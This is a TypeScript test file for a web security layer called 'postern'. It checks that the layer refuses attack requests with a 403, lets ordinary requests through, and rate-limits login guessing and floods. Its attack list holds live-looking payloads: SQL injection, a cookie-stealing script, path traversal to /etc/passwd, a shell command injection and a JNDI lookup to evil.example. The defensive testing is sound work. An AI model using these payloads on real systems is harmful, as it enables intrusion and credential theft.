import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { type Postern, postern } from '../src/index.ts'

/** What refuses when nobody configured anything, on a real server with real requests. */
describe('without any configuration', () => {
  const folder = mkdtempSync(join(tmpdir(), 'postern-defaults-'))
  let layer: Postern
  let url = ''
  const server = createServer()

  before(async () => {
    layer = await postern({ folder })
    const handler = layer.node<IncomingMessage, ServerResponse>((request, response) => {
      request.resume()
      request.on('end', () => response.end(`hello ${request.url}`))
    })
    server.on('request', handler)
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  })
  after(async () => {
    await new Promise(resolve => {
      server.close(resolve)
      server.closeAllConnections()
    })
    await layer.close()
    rmSync(folder, { recursive: true, force: true })
  })

  const json = (body: unknown): RequestInit => ({
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })

  const attacks: readonly (readonly [name: string, path: string, init?: RequestInit])[] = [
    ['SQL injection in a query', "/products?id=1'%20UNION%20SELECT%20password%20FROM%20users--"],
    ['SQL injection in a JSON body', '/search', json({ filter: { name: "x' OR '1'='1' -- " } })],
    ['a script in a query', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'],
    ['a way out of a folder', '/download?name=..%2F..%2F..%2Fetc%2Fpasswd'],
    [
      'a shell command in a form',
      '/ping',
      { method: 'POST', body: new URLSearchParams({ host: '127.0.0.1; cat /etc/passwd' }) },
    ],
    [
      'a lookup that makes the logger fetch code',
      '/',
      { headers: { 'x-api-version': `${'$'}{jndi:ldap://evil.example/a}` } },
    ],
  ]
  for (const [name, path, init] of attacks) {
    test(`refuses ${name} with a problem document and a request id`, async () => {
      const response = await fetch(url + path, init)
      assert.equal(response.status, 403)
      assert.equal(response.headers.get('content-type'), 'application/problem+json')
      const id = response.headers.get('x-request-id') ?? ''
      const problem = (await response.json()) as { readonly instance: string; readonly detail: string }
      assert.equal(problem.instance, `urn:postern:request:${id}`)
      assert.doesNotMatch(problem.detail, /sqli|xss|union|passwd/i)
    })
  }

  const ordinary: readonly (readonly [name: string, path: string, init?: RequestInit])[] = [
    ['a page', '/products?page=2&sort=price'],
    ['a name with an apostrophe', "/search?q=O'Brien%20%26%20Sons"],
    ['words that SQL uses', '/search?q=select%20the%20best%20union%20from%20where%20you%20drop%20tables'],
    [
      'a comment in prose',
      '/comments',
      json({ text: 'I <3 this! It is 100% better -- and cheaper; see /etc for details?' }),
    ],
    [
      'a form',
      '/orders',
      { method: 'POST', body: new URLSearchParams({ street: '1 Main St.', city: "L'Aquila" }) },
    ],
    ['a picture', '/images/storm-lantern.svg'],
  ]
  for (const [name, path, init] of ordinary) {
    test(`lets ${name} through`, async () => {
      const response = await fetch(url + path, init)
      assert.equal(response.status, 200, await response.text())
    })
  }

  test('holds guessing at a login to 20 tries a minute, and says when to come back', async () => {
    const statuses: number[] = []
    let last: Response | undefined
    for (let i = 0; i < 22; i++) {
      last = await fetch(`${url}/login`, {
        method: 'POST',
        body: new URLSearchParams({ email: `a${i}@example.com`, password: `p${i}` }),
      })
      await last.arrayBuffer()
      statuses.push(last.status)
    }
    assert.deepEqual(statuses.slice(0, 20), Array(20).fill(200))
    assert.deepEqual(statuses.slice(20), [429, 429])
    assert.ok(Number(last?.headers.get('retry-after')) >= 1)
  })

  test('holds a flood from one address, and never bans loopback', async () => {
    let refused = 0
    for (let i = 0; i < 1_300 && refused < 5; i += 50) {
      const answers = await Promise.all(Array.from({ length: 50 }, () => fetch(url)))
      for (const answer of answers) {
        await answer.arrayBuffer()
        if (answer.status === 429) refused++
        else assert.equal(answer.status, 200)
      }
    }
    assert.ok(refused > 0, 'nothing was refused')
    assert.deepEqual(layer.remediations.list(), [])
  })

  test('tells that every part is well', () => {
    assert.ok(layer.health().length >= 3)
    assert.deepEqual(
      layer.health().filter(part => !part.ok),
      [],
    )
  })
})

describe('without any configuration, at one account', () => {
  test('five guesses from one address pass, and further ones learn when to retry', async context => {
    const folder = mkdtempSync(join(tmpdir(), 'postern-defaults-'))
    const layer = await postern({ folder })
    const server = createServer(
      layer.node<IncomingMessage, ServerResponse>((request, response) => {
        request.resume()
        request.on('end', () => response.writeHead(401).end())
      }),
    )
    context.after(async () => {
      server.close()
      server.closeAllConnections()
      await layer.close()
      rmSync(folder, { recursive: true, force: true })
    })
    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
    const statuses: number[] = []
    for (let i = 0; i < 8; i++) {
      const answer = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/login`, {
        method: 'POST',
        body: new URLSearchParams({ email: 'alice@example.com', password: `p${i}` }),
      })
      await answer.arrayBuffer()
      statuses.push(answer.status)
    }
    assert.deepEqual(statuses, [401, 401, 401, 401, 401, 429, 429, 429])
  })
})
